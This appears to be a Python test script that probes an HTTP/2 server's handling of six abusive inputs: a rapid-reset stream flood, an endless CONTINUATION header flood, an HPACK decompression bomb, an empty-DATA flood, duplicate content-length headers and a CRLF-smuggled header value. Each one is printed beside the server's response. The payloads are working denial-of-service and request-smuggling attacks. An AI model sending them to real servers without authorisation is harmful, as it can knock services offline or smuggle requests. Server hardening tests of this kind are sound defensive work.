"""h2 that its own library would not send, to NAME at ADDRESS, trusting CA: what each of it comes to, a line each."""

import socket
import ssl
import sys

import h2.config
import h2.connection
import h2.events
import hpack
from h2.errors import ErrorCodes
from hyperframe.frame import ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, RstStreamFrame

address, name, ca = sys.argv[1:]


class Connection:
    def __init__(self):
        context = ssl.create_default_context(cafile=ca)
        context.set_alpn_protocols(["h2"])
        host, port = address.rsplit(":", 1)
        self.sock = context.wrap_socket(socket.create_connection((host, int(port)), 60), server_hostname=name)
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
        self.h2.initiate_connection()
        self.sock.sendall(self.h2.data_to_send())
        self.encoder, self.decoder = hpack.Encoder(), hpack.Decoder()

    def head(self, path, more=(), method="GET"):
        own = [(":method", method), (":scheme", "https"), (":authority", name), (":path", path)]
        return self.encoder.encode([*own, *more], huffman=False)

    def send(self, *frames):
        """False when the other side has had enough."""
        try:
            self.sock.sendall(b"".join(frame.serialize() for frame in frames))
            return True
        except OSError:
            return False

    def frame(self):
        parsed, length = Frame.parse_frame_header(memoryview(self.exactly(9)))
        parsed.parse_body(memoryview(self.exactly(length)))
        return parsed

    def exactly(self, length):
        data = b""
        while len(data) < length:
            received = self.sock.recv(length - len(data))
            if not received:
                raise EOFError
            data += received
        return data

    def end(self):
        """What the connection comes to; of one that goes on, what the stream does."""
        said = "closed"
        try:
            while True:
                frame = self.frame()
                if isinstance(frame, GoAwayFrame):
                    return "GOAWAY " + ErrorCodes(frame.error_code).name
                if isinstance(frame, RstStreamFrame):
                    return "RST_STREAM " + ErrorCodes(frame.error_code).name
                if isinstance(frame, HeadersFrame):
                    said = dict(self.decoder.decode(frame.data))[":status"]
        except (OSError, EOFError):
            return said


def headers(stream, block, *flags):
    return HeadersFrame(stream, block, flags=flags)


def rapid_reset(connection):
    for stream in range(1, 4001, 2):
        head = headers(stream, connection.head("/rapid"), "END_HEADERS", "END_STREAM")
        if not connection.send(head, RstStreamFrame(stream, error_code=8)):
            break


def endless_head(connection):
    connection.send(headers(1, connection.head("/endless")))
    more = connection.encoder.encode([hpack.NeverIndexedHeaderTuple("x-more", "v" * 1000)], huffman=False)
    for _ in range(1000):
        if not connection.send(ContinuationFrame(1, more)):
            break


def bomb(connection):
    block = connection.head("/bomb", [("x-bomb", "v" * 3900)])
    connection.send(headers(1, block + b"\xbe" * 12000, "END_HEADERS", "END_STREAM"))


def empty_data(connection):
    connection.send(headers(1, connection.head("/empty", method="POST"), "END_HEADERS"))
    for _ in range(10000):
        if not connection.send(DataFrame(1, b"")):
            break


def two_lengths(connection):
    block = connection.head("/lengths", [("content-length", "1"), ("content-length", "2")], "POST")
    connection.send(headers(1, block, "END_HEADERS"), DataFrame(1, b"12", flags=["END_STREAM"]))


def line_break(connection):
    block = connection.head("/break", [("x-break", "a\r\nx-smuggled: b")])
    connection.send(headers(1, block, "END_HEADERS", "END_STREAM"))


for what, abuse in {
    "rapid reset": rapid_reset,
    "a head without end": endless_head,
    "a bomb of fields": bomb,
    "empty data": empty_data,
    "two lengths": two_lengths,
    "a line break in a value": line_break,
}.items():
    connection = Connection()
    abuse(connection)
    print(f"{what}: {connection.end()}")

polite = Connection()
fields = [(":method", "GET"), (":scheme", "https"), (":authority", name), (":path", "/polite")]
polite.h2.send_headers(1, fields, end_stream=True)
polite.sock.sendall(polite.h2.data_to_send())
events = []
while not any(isinstance(event, h2.events.StreamEnded) for event in events):
    events += polite.h2.receive_data(polite.sock.recv(65536))
print("a polite request:", *[dict(event.headers)[":status"] for event in events if hasattr(event, "headers")])
